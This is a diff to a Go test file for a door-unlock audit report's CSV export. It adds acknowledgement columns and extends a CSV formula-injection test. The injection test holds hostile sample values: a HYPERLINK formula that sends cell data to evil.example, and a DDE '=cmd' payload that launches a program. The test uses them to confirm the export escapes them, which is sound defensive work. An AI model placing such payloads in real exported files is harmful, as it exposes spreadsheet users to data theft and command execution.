@@ -60,7 +60,7 @@ func TestAuditReportCSV_Rows(t *testing.T) {
 	r := SampleAuditReport(t)
 	_, rows := MustCSV(t, r)
 	wantHeader := []string{"occurred_at (Europe/Zurich)", "device_id", "device", "method", "actor_ref", "result", "anomalies",
-		"event_id", "received_at (Europe/Zurich)", "unlock_id", "source"}
+		"event_id", "received_at (Europe/Zurich)", "unlock_id", "source", "acknowledged_at (Europe/Zurich)", "acknowledged_by", "ack_note"}
 	if got := strings.Join(rows[0], "|"); got != strings.Join(wantHeader, "|") {
 		t.Fatalf("header = %q, want %q", got, wantHeader)
 	}
@@ -81,8 +81,13 @@ func TestAuditReportCSV_Rows(t *testing.T) {
 		for _, k := range ev.Anomalies {
 			flags = append(flags, strings.ReplaceAll(k, "_", " "))
 		}
+		var ackAt string
+		if ev.Acknowledged() {
+			ackAt = ev.AcknowledgedAt.In(zurich).Format(time.RFC3339)
+		}
 		want := []string{ev.OccurredAt.In(zurich).Format(time.RFC3339), deviceID, device, ev.Method, ev.ActorRef, string(ev.Result),
-			strings.Join(flags, ", "), ev.EventID, ev.ReceivedAt.In(zurich).Format(time.RFC3339Nano), strconv.FormatInt(ev.ID, 10), ev.Source}
+			strings.Join(flags, ", "), ev.EventID, ev.ReceivedAt.In(zurich).Format(time.RFC3339Nano), strconv.FormatInt(ev.ID, 10), ev.Source,
+			ackAt, ev.AcknowledgedBy, ev.AckNote}
 		if got := strings.Join(row, "|"); got != strings.Join(want, "|") {
 			t.Errorf("row %d:\n got %q\nwant %q", i-1, row, want)
 		}
@@ -91,7 +96,8 @@ func TestAuditReportCSV_Rows(t *testing.T) {
 	if i != len(rows) || i != 301 {
 		t.Errorf("%d rows, want 300 events and the header", len(rows))
 	}
-	for _, want := range []string{"after revocation, without consent", "unregistered: relay-Ω-9", oddActor, "outside hours"} {
+	for _, want := range []string{"after revocation, without consent", "unregistered: relay-Ω-9", oddActor, "outside hours",
+		"2026-11-12T11:20:00+01:00|" + bulkAckBy + "|" + bulkAckNote, ackNote} {
 		found := false
 		for _, row := range rows {
 			found = found || strings.Contains(strings.Join(row, "|"), want)
@@ -121,7 +127,8 @@ func TestAuditReportCSV_Injection(t *testing.T) {
 	bad := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"}
 	for i, s := range bad {
 		evs = append(evs, doorledger.UnlockEvent{ID: int64(i + 1), DeviceID: 3, EventID: s, OccurredAt: at, ReceivedAt: at,
-			Method: s, ActorRef: s, Result: doorledger.UnlockResult(s), Source: s, Anomalies: []string{"=x"}})
+			Method: s, ActorRef: s, Result: doorledger.UnlockResult(s), Source: s, Anomalies: []string{"=x"},
+			AcknowledgedAt: at.Add(time.Hour), AcknowledgedBy: s, AckNote: s})
 	}
 	evs = append(evs, doorledger.UnlockEvent{ID: 99, DeviceRef: "=cmd|' /C calc'!A0", BuildingID: 7, EventID: "ok-1", OccurredAt: at,
 		Method: "keypad", ActorRef: "a=b", Result: doorledger.UnlockGranted})
@@ -129,13 +136,16 @@ func TestAuditReportCSV_Injection(t *testing.T) {
 	_, rows := MustCSV(t, r)
 	for i, s := range bad {
 		row := rows[i+1]
-		for _, col := range []int{3, 4, 5, 7, 10} {
+		for _, col := range []int{3, 4, 5, 7, 10, 12, 13} {
 			if got, want := row[col], "'"+s; got != want {
 				t.Errorf("event %d column %d = %q, want %q", i, col, got, want)
 			}
 		}
 		if got, want := row[6], "=x"; got != "'"+want {
 			t.Errorf("event %d anomalies = %q, want %q", i, got, "'"+want)
+		}
+		if got, want := row[11], "2026-11-05T14:00:00+01:00"; got != want {
+			t.Errorf("event %d acknowledged_at = %q, want %q", i, got, want)
 		}
 	}
 	last := rows[len(bad)+1]
